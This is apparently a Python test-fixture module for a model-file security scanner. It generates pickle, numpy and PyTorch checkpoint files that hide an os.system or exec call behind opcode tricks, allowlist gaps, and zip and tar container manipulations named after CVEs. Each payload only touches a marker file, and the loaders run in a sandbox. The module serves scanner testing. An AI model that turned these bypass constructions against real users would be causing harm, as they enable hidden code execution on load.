"""Weight files that disguise a pickle which runs a command on load: every publicly
described scanner bypass that applies to a file in a model archive, and the pickle
forms that loaders accept but a scanner looking for a magic prefix does not.

Each case's payload touches its own marker file, so a loader run in a subprocess
(`run_loaders`) proves that the case is real: the loader does run it. The cases are
built with the standard library and torch (for the zip checkpoints); they are shared by
tests/cli/test_bypasses.py and bench/scanner_peers.py."""

from __future__ import annotations

import io
import json
import struct
import subprocess
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path


@dataclass
class BypassCase:
    name: str  # the file's name: what a scanner keyed on extensions would look at
    path: Path
    loader: str  # "torch" (torch.load, weights_only=False), "pickle" or "numpy"
    marker: Path  # touched when the loader runs the payload
    runs: bool  # whether the loader is known to run the payload (checked by run_loaders)
    note: str
    expect: str = "unsafe"


def text_line(value: str) -> bytes:
    return value.encode() + b"\n"


def short_unicode(text: str) -> bytes:
    encoded = text.encode()
    return b"\x8c" + bytes([len(encoded)]) + encoded


def quoted(text: str) -> bytes:
    return b"S" + repr(text).encode() + b"\n"


def call(module: str, name: str, argument: str) -> bytes:
    """Protocol 0: module.name(argument), left on the stack."""
    return b"c" + text_line(module) + text_line(name) + b"(" + quoted(argument) + b"tR"


def touch(marker: Path) -> str:
    return f"touch {marker}"


def torch_zip_with(data_pkl: bytes, tmp: Path, name: str) -> bytes:
    """A checkpoint as torch.save writes it, with its data.pkl replaced."""
    import torch

    scratch = tmp / f".{name}.template"
    torch.save({"w": torch.zeros(2)}, scratch)
    out = io.BytesIO()
    with zipfile.ZipFile(scratch) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as new:
        for info in old.infolist():
            data = data_pkl if info.filename.endswith("/data.pkl") else old.read(info.filename)
            new.writestr(zipfile.ZipInfo(info.filename), data)
    scratch.unlink()
    return out.getvalue()


def make_bypass_cases(tmp: Path) -> list[BypassCase]:
    tmp.mkdir(parents=True, exist_ok=True)
    cases: list[BypassCase] = []

    def add(name: str, data: bytes, loader: str, marker: Path, note: str, runs: bool = True):
        path = tmp / name
        path.write_bytes(data)
        cases.append(BypassCase(name, path, loader, marker, runs, note))

    def marker(tag: str) -> Path:
        return tmp / f"ran-{tag}"

    # ---- pickles that do not start with PROTO (recognised by the loaders' own rule:
    # pickle.load takes any opcode first).
    m = marker("proto0")
    add("proto0.pth", call("os", "system", touch(m)) + b".", "torch", m,
        "protocol 0, no PROTO opcode")
    m = marker("float")
    add("float_first.pt", b"F1.5\n0" + call("os", "system", touch(m)) + b".", "torch", m,
        "first opcode FLOAT")
    m = marker("binint2")
    add("binint2_first.pt", b"M\x01\x000" + call("os", "system", touch(m)) + b".", "torch", m,
        "first opcode BININT2")
    m = marker("newtrue")
    add("newtrue_first.pt", b"\x880" + call("os", "system", touch(m)) + b".", "torch", m,
        "first opcode NEWTRUE")
    m = marker("stack-global")
    add("stack_global_first.pkl",
        short_unicode("os") + short_unicode("system") + b"\x93" + short_unicode(touch(m)) +
        b"\x85R.", "pickle", m, "STACK_GLOBAL without PROTO")
    m = marker("long-string")
    padding = b"X" + struct.pack("<I", 20000) + b"a" * 20000 + b"0"
    add("long_string.pt", padding + call("os", "system", touch(m)) + b".", "torch", m,
        "STOP after a 20 kB string")
    m = marker("int-hex")
    add("int_hex.pt", b"I0x10\n0" + call("os", "system", touch(m)) + b".", "torch", m,
        "INT 0x10 (read with base 0)")
    m = marker("broken")
    add("broken.pt", call("os", "system", touch(m)) + b"\xff\xfe garbage", "torch", m,
        "nullifAI: a pickle broken after its call")

    # ---- callables outside every deny list: the allowlist is the only pass.
    m = marker("pip")
    add("pip_main.pkl",
        b"\x80\x02cpip\nmain\n(]" + b"".join(quoted(a) + b"a" for a in
                                             ["--isolated", "--disable-pip-version-check",
                                              "--log", str(m), "list"]) + b"tR.",
        "pickle", m, "CVE-2025-1716: pip.main (it can install a package); here it writes a log")
    m = marker("resolve-name")
    add("resolve_name.pkl",
        b"\x80\x02cpkgutil\nresolve_name\n(S'os:system'\ntR(" + quoted(touch(m)) + b"tR.",
        "pickle", m, "pkgutil.resolve_name, then a call of what it found")
    m = marker("pydoc")
    add("pydoc_locate.pkl",
        b"\x80\x02cpydoc\nlocate\n(S'os.system'\ntR(" + quoted(touch(m)) + b"tR.",
        "pickle", m, "pydoc.locate, then a call of what it found")
    m = marker("posix")
    add("posix_system.pkl", b"\x80\x02" + call("posix", "system", touch(m)) + b".", "pickle", m,
        "CVE-2025-10157: a blocklisted callable under another module's name")
    m = marker("obj")
    add("obj_opcode.pkl", b"(cos\nsystem\n" + quoted(touch(m)) + b"o.", "pickle", m,
        "fickling 2026: the OBJ opcode calls its class")
    m = marker("inst")
    add("inst_opcode.pkl", b"(" + quoted(touch(m)) + b"ios\nsystem\n.", "pickle", m,
        "INST: import and call in one opcode")
    m = marker("dotted")
    add("dotted_stack_global.pkl",
        b"\x80\x04" + short_unicode("torch") + short_unicode("serialization.os.system") +
        b"\x93" + short_unicode(touch(m)) + b"\x85R.", "pickle", m,
        "fickling 2026: a dotted STACK_GLOBAL name through an allowed module")
    m = marker("shadow")
    add("allowlist_shadow.pkl",
        b"\x80\x04" + short_unicode("collections") + short_unicode("OrderedDict") + b"\x93\x94" +
        short_unicode("builtins") + short_unicode("exec") + b"\x93" +
        short_unicode(f"import os; os.system({touch(m)!r})") + b"\x85R.", "pickle", m,
        "fickling 2026: an allowed global first, the call after it")

    # ---- numpy.load(allow_pickle=True): a file without the .npy magic is unpickled,
    # and an object dtype however the header's literal spells it.
    m = marker("npy-raw")
    add("raw_pickle.npy", b"\x80\x02" + call("os", "system", touch(m)) + b".", "numpy", m,
        "numpy.load falls back to pickle.load")
    for i, literal in enumerate([rb"'|\x4f'", rb"'|' 'O'", rb"u'|O'", rb"'\x7cO'", rb"'|\117'",
                                 rb"'|\u004f'"]):
        m = marker(f"npy-spelled-{i}")
        header = b"{'descr': " + literal + b", 'fortran_order': False, 'shape': (1,), }"
        header += b" " * (-(10 + len(header) + 1) % 64) + b"\n"
        add(f"spelled_descr_{i}.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) +
            header + b"\x80\x02" + call("os", "system", touch(m)) + b".", "numpy", m,
            f"an object dtype spelled {literal.decode()} in the header")

    # ---- containers: extension, zip names and bits, CRCs, other compressors.
    m = marker("extension")
    add("weights.dat", torch_zip_with(b"\x80\x02" + call("os", "system", touch(m)) + b".",
                                      tmp, "extension"), "torch", m,
        "CVE-2025-1889: a checkpoint under an extension a scanner skips")
    m = marker("renamed")
    add("model.bin", b"\x80\x02" + call("os", "system", touch(m)) + b".", "torch", m,
        "CVE-2025-10155: a bare pickle renamed .bin")
    m = marker("zip-name")
    raw = bytearray(torch_zip_with(b"\x80\x02" + call("os", "system", touch(m)) + b".", tmp, "n"))
    at = raw.index(b"/data.pkl")  # the local header's name comes first
    raw[at:at + 9] = b"/data.pkX"
    add("zip_name.pt", bytes(raw), "torch", m,
        "CVE-2025-1944: the local header and the directory name data.pkl differently")
    m = marker("zip-flags")
    raw = bytearray(torch_zip_with(b"\x80\x02" + call("os", "system", touch(m)) + b".", tmp, "f"))
    central = raw.index(b"PK\x01\x02")
    struct.pack_into("<H", raw, central + 8, 0x0001)  # the directory says "encrypted"
    add("zip_flags.pt", bytes(raw), "torch", m,
        "CVE-2025-1945: general-purpose flag bits that make zipfile give up", runs=False)
    m = marker("zip-crc")
    raw = bytearray(torch_zip_with(b"\x80\x02" + call("os", "system", touch(m)) + b".", tmp, "c"))
    central = raw.index(b"PK\x01\x02")
    raw[central + 16] ^= 0xFF
    add("zip_crc.pt", bytes(raw), "torch", m,
        "CVE-2025-10156: a bad CRC that stops a scanner, not the loader", runs=False)
    m = marker("two-eocd")
    add("two_eocd.pt", two_end_records(tmp, m), "torch", m,
        "two end-of-central-directory records: readers disagree on which counts", runs=False)
    m = marker("legacy-pax")
    add("legacy_pax.dat", legacy_tar(b"\x80\x02" + call("os", "system", touch(m)) + b".", "pax"),
        "torch", m, "a legacy tar checkpoint whose first header is pax")
    m = marker("legacy-v7")
    add("legacy_v7.dat", legacy_tar(b"\x80\x02" + call("os", "system", touch(m)) + b".", "v7"),
        "torch", m, "a legacy tar checkpoint with v7 headers (no magic)")
    m = marker("legacy-order")
    add("legacy_order.pt", legacy_tar(b"\x80\x02" + call("os", "system", touch(m)) + b".",
                                       "ustar", order=("pickle", "tensors", "storages")),
        "torch", m, "a legacy tar checkpoint whose first member is not storages")
    m = marker("gzip")
    import gzip as gzip_module
    add("gzipped.pt", gzip_module.compress(b"\x80\x02" + call("os", "system", touch(m)) + b"."),
        "torch", m, "nullifAI-style: a pickle in another compressor (a custom loader unwraps it)",
        runs=False)
    return cases


def legacy_tar(pickle_member: bytes, kind: str,
               order: tuple[str, ...] = ("storages", "tensors", "pickle")) -> bytes:
    """The tar layout of torch.save before 0.4: storages (a count, here 0, and a list
    of views), tensors (a count) and the pickle. `kind`: "ustar", "pax" (a pax header first) or "v7"
    (the magic and version fields blanked, the checksum redone)."""
    import tarfile

    members = {"storages": b"\x80\x02K\x00.\x80\x02].", "tensors": b"\x80\x02K\x00.",
               "pickle": pickle_member}
    out = io.BytesIO()
    tar_format = tarfile.PAX_FORMAT if kind == "pax" else tarfile.USTAR_FORMAT
    with tarfile.open(fileobj=out, mode="w", format=tar_format) as tar:
        for name in order:
            info = tarfile.TarInfo(name)
            info.size = len(members[name])
            if kind == "pax":
                info.pax_headers = {"comment": "first"}
            tar.addfile(info, io.BytesIO(members[name]))
    data = bytearray(out.getvalue())
    if kind == "v7":
        for offset in range(0, len(data) - 512, 512):
            block = data[offset:offset + 512]
            if block[257:262] != b"ustar":
                continue
            block[257:265] = b"\0" * 8
            block[148:156] = b" " * 8
            block[148:156] = b"%06o\0 " % sum(block)
            data[offset:offset + 512] = block
    return bytes(data)


def two_end_records(tmp: Path, marker: Path) -> bytes:
    """A benign checkpoint whose zip comment holds a second, evil directory and end
    record: a reader that takes the first end record it finds from the front sees one
    zip, one that takes the last sees another."""
    benign = torch_zip_with(b"\x80\x02}q\x00.", tmp, "benign")
    evil = torch_zip_with(b"\x80\x02" + call("os", "system", touch(marker)) + b".", tmp, "evil")
    # Append the evil zip as the comment of the benign one's end record.
    end = benign.rindex(b"PK\x05\x06")
    header = bytearray(benign[end:end + 22])
    struct.pack_into("<H", header, 20, len(evil))
    return benign[:end] + bytes(header) + evil


LOADER_SCRIPT = r"""
import json, os, sys
cases = json.loads(sys.argv[1])
for path, loader in cases:
    pid = os.fork()
    if pid == 0:
        try:
            if loader == "torch":
                import torch
                torch.load(path, weights_only=False) if "weights_only" in torch.load.__code__.co_varnames else torch.load(path)
            elif loader == "numpy":
                import numpy
                numpy.load(path, allow_pickle=True)
            else:
                import pickle
                with open(path, "rb") as f:
                    pickle.load(f)
        except BaseException:
            pass
        os._exit(0)
    os.waitpid(pid, 0)
"""


def network_sandbox() -> list[str]:
    """`unshare -rn`, a network namespace with only loopback, where the kernel allows
    one; nothing otherwise (the payloads here touch files and never connect anyway)."""
    try:
        subprocess.run(["unshare", "-rn", "true"], check=True, capture_output=True, timeout=10)
    except (OSError, subprocess.SubprocessError):
        return []
    return ["unshare", "-rn"]


def run_loaders(cases: list[BypassCase], cwd: Path, python: str = "/usr/bin/python3") -> None:
    """Loads every case with its real loader, each in a fork of one Python process
    (Debian's python3 with python3-torch 1.13, its numpy and pip), in `cwd`, in a network
    namespace of its own where possible, with no credentials or network configuration in
    its environment; the markers say which payloads ran."""
    env = {"PATH": "/usr/bin:/bin", "HOME": str(cwd), "PIP_NO_INDEX": "1",
           "PIP_DISABLE_PIP_VERSION_CHECK": "1", "PIP_CONFIG_FILE": "/dev/null"}
    subprocess.run([*network_sandbox(), python, "-c", LOADER_SCRIPT,
                    json.dumps([[str(c.path), c.loader] for c in cases])],
                   check=True, timeout=300, cwd=cwd, env=env,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


if __name__ == "__main__":  # python bypass_corpus.py DIR: writes the corpus there
    for case in make_bypass_cases(Path(sys.argv[1])):
        print(case.name, case.loader, case.note)
